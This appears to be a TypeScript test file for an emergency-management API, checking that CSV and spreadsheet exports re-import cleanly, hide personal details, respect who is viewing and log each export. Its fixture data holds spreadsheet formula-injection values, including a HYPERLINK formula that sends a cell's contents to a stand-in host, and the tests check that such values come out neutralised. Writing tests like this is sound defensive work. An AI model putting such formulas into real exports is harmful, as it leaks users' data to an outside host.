import { readTable, type Table } from '#tables';
import { startApi, type Body } from '../app/engines.helper-spec.js';

type Headers = Record<string, string>;

const workbook = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const pump = {
  name: '=HYPERLINK("http://example.test/?"&A2)',
  kind: 'pump.sewage',
  capability: { code: 'drainage-m3h', perUnit: 350 },
  quantity: 3,
  unit: '台',
  areaCode: '520111',
  place: '@SUM(1), "小孟"仓库',
  readiness: 'ready',
  arrivalMinutes: 45,
  costPerUnitFen: 12050,
  minimumReserve: 1,
  expiresAt: '2027-06-01T00:00:00Z',
};

const lead = '0b6f2a52-6a3e-4d27-9f0e-5a1c7b1f0a01';
const clause = (clauseId: string, action: object): object => ({
  ...{ clauseId, title: `条款 ${clauseId}`, text: '内容', trigger: '红色预警', levels: [1, 4], action },
});

describe('lists that go out as tables', () => {
  let api: Awaited<ReturnType<typeof startApi>>;
  let officer: Headers;
  let fire: Headers;
  let personnel: Headers;

  beforeAll(async () => {
    api = await startApi(1);
    await api.parties.register('EMB', 'department');
    await api.parties.register('FIRE', 'department', []);
    await api.parties.registerAlone('AUDIT', 'auditor');
    officer = await api.parties.bearer('EMB', 'duty-officer');
    fire = await api.parties.bearer('FIRE', 'agency-operator');
    personnel = await api.parties.bearer('EMB', 'personnel');
    for (let n = 1; n <= 230; n++) await post(`resources/EMB.${n}/register`, { ...pump, quantity: n });
    await post('resources/FIRE.1/register', pump, fire);
    await post('teams/EMB.T1/form', {
      ...{ name: '编组', kind: 'team.flood', areaCode: '520111' },
      capabilities: [
        { capability: 'rescue-team', minimumMembers: 3, qualifications: ['water-rescue', 'boat'] },
        { capability: 'boat-seats', minimumMembers: 2, qualifications: [] },
      ],
    });
    const shift = { date: '2027-11-29', start: '20:00', end: '08:00', lead, officers: [lead] };
    await post('teams/EMB.T1/enrol', {
      memberId: 'M-1',
      post: '班长',
      contact: { name: '张测试', telephone: '13800000007' },
    });
    await post('teams/EMB.T1/enrol', { memberId: 'M-2' });
    await post('teams/EMB.T1/grant-qualification', {
      ...{
        memberId: 'M-1',
        qualification: 'boat',
        certificateNumber: '0012',
        validUntil: '2028-01-01T03:00:00Z',
      },
    });
    await post('plans/P-1/draft', {
      ...{
        title: '防汛预案',
        kind: 'special',
        category: 'natural-disaster',
        areaCode: '520111',
        hazardous: false,
      },
      duties: [{ duty: '转移', agencyId: 'FIRE' }],
      clauses: [
        clause('1', {
          task: { assigneeDuty: '转移', title: '转移', priority: 1, acknowledgeWithinMinutes: 10 },
        }),
        clause('2', {
          task: {
            assigneeAgencyId: 'FIRE',
            title: '=排涝',
            instructions: '逐户',
            priority: 2,
            acknowledgeWithinMinutes: 5,
          },
        }),
        clause('3', {
          request: {
            ...{
              capability: 'drainage-m3h',
              amount: 1500.5,
              neededWithinMinutes: 90,
              priority: 1,
              purpose: '排涝',
            },
            deliverTo: { areaCode: '520111207', place: '乡政府' },
          },
        }),
        clause('4', { notice: { agencyIds: ['EMB', 'FIRE'], message: '已启动' } }),
        clause('5.1', { measure: { text: '广播' } }),
      ],
    });
    await post(
      `persons/${lead}/register`,
      { details: { name: '李测试', telephone: '13700000001' } },
      personnel,
    );
    await post('duty/EMB.hall.2027-11/put-shifts', { shifts: [shift] });
    await api.client.get(`/v1/resources?minPosition=${await end()}`, officer);
  });
  afterAll(() => api?.stop());

  const post = async (path: string, body: object, who = officer): Promise<void> => {
    const { status } = await api.client.post(`/v1/${path}`, body, who);
    expect(status).toBeLessThan(300);
  };
  const end = async () => (await api.eventLog.lastPosition()).toString();
  const take = async (path: string, accept: string, who = officer) => {
    const response = await fetch(`${api.client.url}/v1/${path}`, { headers: { ...who, accept } });
    expect(response.status).toBe(200);
    return Buffer.from(await response.arrayBuffer());
  };
  async function tableOf(file: Buffer): Promise<Table> {
    const table = await readTable(new Uint8Array(file));
    if ('faults' in table) throw new Error(JSON.stringify(table.faults));
    return table;
  }
  const preview = async (kind: string, file: Buffer, who = officer): Promise<Body> =>
    (await api.client.file(`/v1/imports/${kind}`, file, who)).body;

  it.each(['text/csv', workbook])('come in again as %s without an event', async (accept) => {
    for (const [path, kind, same, who = officer] of [
      ['resources', 'resources', 231],
      ['teams', 'teams', 1],
      ['duty/rosters', 'rosters', 1],
      ['persons', 'persons', 1, personnel],
      ['teams/EMB.T1', 'members', 2],
      ['plans/P-1', 'clauses', 5],
    ] as const) {
      const seen = await preview(kind, await take(path, accept, who), who);
      expect(seen).toMatchObject({ faults: [], commands: 0, missing: [] });
      expect(seen.counts.same).toBe(same);
    }
  });

  it('are whole, with texts that run nowhere, and numbers that are numbers', async () => {
    const csv = (await take('resources', 'text/csv')).toString('utf8');
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(csv).not.toMatch(/(^|,|\n)"?[=@]/);
    const { rows } = await tableOf(await take('resources', workbook));
    expect(rows).toHaveLength(232);
    const quantity = rows[0]?.findIndex(({ text }) => text === '数量') ?? -1;
    expect(rows[1]?.[quantity]).toEqual({ text: '1', form: 'number' });
    expect(rows[1]?.[1]).toEqual({ text: pump.name, form: 'text' });
  });

  it('hold what their viewer sees', async () => {
    const mine = (await take('resources?ownerAgencyId=EMB', 'text/csv')).toString('utf8');
    const theirs = (await take('resources?ownerAgencyId=EMB', 'text/csv', fire)).toString('utf8');
    expect(mine).toContain('120.5');
    expect(theirs).not.toContain('120.5');
  });

  it('are tables of other lists as well, with headings that people read', async () => {
    const coverage = await tableOf(await take('coverage', 'text/csv'));
    expect(coverage.rows[0]?.map(({ text }) => text)).toEqual(
      expect.arrayContaining(['所在区划', '区划名称', '最快到达分钟', '标准时限分钟']),
    );
    for (const path of ['agencies', 'incidents', 'tasks', 'requests/open', 'duty', 'codes'])
      expect((await take(path, `${workbook}, application/json;q=0.5`)).length).toBeGreaterThan(0);
    // a page is still a page for whoever does not ask
    expect((await api.client.get('/v1/resources', officer)).body.items).toHaveLength(50);
  });

  it('tell nothing of a person but by what it is known again', async () => {
    const [persons, members] = [
      await take('persons', 'text/csv', personnel),
      await take('teams/EMB.T1', 'text/csv'),
    ];
    expect(persons.toString('utf8')).toContain(lead);
    expect(`${persons.toString('utf8')}${members.toString('utf8')}`).not.toMatch(/测试|13[78]0000000/);
    const filled = `登记号,姓名,电话\n${lead},,13700000009\n`;
    expect((await preview('persons', Buffer.from(filled), personnel)).rows).toMatchObject([
      { id: lead, change: 'changed', fields: ['电话'] },
    ]);
    const stranger = filled.replace('0b6f', '1b6f');
    expect((await preview('persons', Buffer.from(stranger), personnel)).faults).toMatchObject([
      { row: 2, code: 'person-unknown' },
    ]);
  });

  it('leave on record who took them', async () => {
    const before = await end();
    await take('resources?kind=pump.sewage', 'text/csv', fire);
    expect(await end()).toBe(before);
    const own = (await api.client.get('/v1/exports?limit=1', fire)).body;
    expect(own.items).toMatchObject([
      {
        ...{ agencyId: 'FIRE', principal: 'test', role: 'agency-operator', path: '/v1/resources' },
        ...{ query: 'kind=pump.sewage', format: 'csv', rows: 231 },
      },
    ]);
    const auditor = await api.parties.bearer('AUDIT', 'auditor');
    const all = (await api.client.get('/v1/exports', auditor)).body.items as { agencyId: string }[];
    expect(new Set(all.map(({ agencyId }) => agencyId))).toEqual(new Set(['EMB', 'FIRE']));
    expect((await api.client.get('/v1/exports?agencyId=EMB', fire)).body.items).toEqual([]);
  });
});
